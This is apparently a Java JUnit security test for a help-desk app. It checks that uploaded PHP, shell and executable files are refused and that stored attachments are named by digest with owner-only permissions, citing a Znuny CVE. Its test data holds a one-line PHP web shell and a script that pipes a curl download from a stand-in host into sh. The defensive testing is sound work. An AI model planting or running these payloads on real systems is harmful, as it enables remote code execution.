package org.supportdesk.bootstrap.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.supportdesk.application.testing.AttachmentSamples;
import org.supportdesk.bootstrap.TestHttp;

/**
 * Znuny CVE-2024-32491 (znuny/manual {@code source/releases/7_0_17}) and FreeScout GHSA-27vp-fpg8-j8wv (commit
 * 5e664f2e): uploaded files reached a place where the server ran them ({@code .pht} files under the web root). Here
 * programs and scripts are refused with 415 whatever they are named, and what is accepted is stored under its digest,
 * with no name or extension a handler could map, readable and writable by the server alone and executable by nobody.
 */
class ZnunyCve2024_32491UploadedFileExecutionTest {
    private static final byte[] PHP = "<?php system($_GET['c']); ?>\n".getBytes(StandardCharsets.US_ASCII);
    private static final byte[] SHELL =
            "#!/bin/sh\ncurl http://198.51.100.1/x | sh\n".getBytes(StandardCharsets.US_ASCII);

    final SecurityWorld world = SecurityWorld.get();
    final TenantCast acme = world.acme();

    record Program(String name, String claimedType, byte[] content) {}

    @Test
    void programs_and_scripts_are_refused_whatever_they_are_named() {
        for (Program program : List.of(
                new Program("shell.pht", "image/jpeg", PHP),
                new Program("shell.php5", "image/png", PHP),
                new Program("shell.phtml", "text/plain", PHP),
                new Program("avatar.png", "image/png", PHP),
                new Program("cleanup.sh", "text/plain", SHELL),
                new Program("readme.txt", "text/plain", SHELL),
                new Program("setup.exe", "application/octet-stream", AttachmentSamples.exe()),
                new Program("photo.jpg", "image/jpeg", AttachmentSamples.exe()))) {
            TestHttp.Response refused = world.http.upload(
                    acme.agent.token(),
                    "/api/v1/attachments",
                    program.name(),
                    program.claimedType(),
                    program.content());
            assertThat(refused.status())
                    .as(program.name() + ": " + refused.body())
                    .isEqualTo(415);
        }
    }

    @Test
    void what_is_kept_is_named_by_its_digest_and_executable_by_nobody() throws IOException {
        TestHttp.Response stored = world.http.upload(
                acme.customer.token(),
                "/api/v1/portal/attachments",
                "run-me.pht",
                "text/plain",
                "just words\n".getBytes(StandardCharsets.UTF_8));
        assertThat(stored.status()).as(stored.body()).isEqualTo(201);
        String digest = stored.json().get("sha256").asText();

        Path root = world.config.attachmentsRoot();
        List<Path> kept;
        try (Stream<Path> files = Files.walk(root)) {
            kept = files.filter(file -> file.getFileName().toString().equals(digest))
                    .toList();
        }
        assertThat(kept).hasSize(1);
        Set<PosixFilePermission> permissions = Files.getPosixFilePermissions(kept.get(0));
        assertThat(permissions)
                .containsExactlyInAnyOrder(PosixFilePermission.OWNER_READ, PosixFilePermission.OWNER_WRITE);
        for (Path directory = kept.get(0).getParent(); directory.startsWith(root); directory = directory.getParent()) {
            assertThat(Files.getPosixFilePermissions(directory))
                    .as(directory.toString())
                    .doesNotContain(
                            PosixFilePermission.GROUP_READ,
                            PosixFilePermission.GROUP_WRITE,
                            PosixFilePermission.OTHERS_READ,
                            PosixFilePermission.OTHERS_WRITE,
                            PosixFilePermission.OTHERS_EXECUTE);
        }
    }
}
